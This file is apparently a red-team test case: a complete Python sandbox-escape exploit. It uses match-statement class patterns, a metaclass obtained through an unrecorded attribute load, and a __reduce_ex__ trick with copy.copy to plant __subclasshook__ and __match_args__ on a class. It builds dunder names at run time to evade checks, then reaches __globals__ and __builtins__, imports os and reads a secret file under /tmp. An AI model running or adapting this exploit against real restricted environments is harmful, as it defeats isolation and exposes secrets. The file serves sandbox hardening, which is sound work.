# family: red team, round 9 (match_keyword_unbound_method_metaclass)
# A class pattern keyword (case object(kind=k)) reads a method off the CLASS without recording an attribute
# load, so own_object still trusts type(self) in that method; the plain function called with the class
# returns its metaclass. A class made with it carries __reduce_ex__, copy.copy() then setattr()s run-time
# names on a class with written __match_args__, and a class pattern reads __globals__.
import abc
import copy


class Base(abc.ABC):
    def kind(self):
        return type(self)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def metaclass():
    match Base:
        case object(kind=k):
            return k(Base)


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
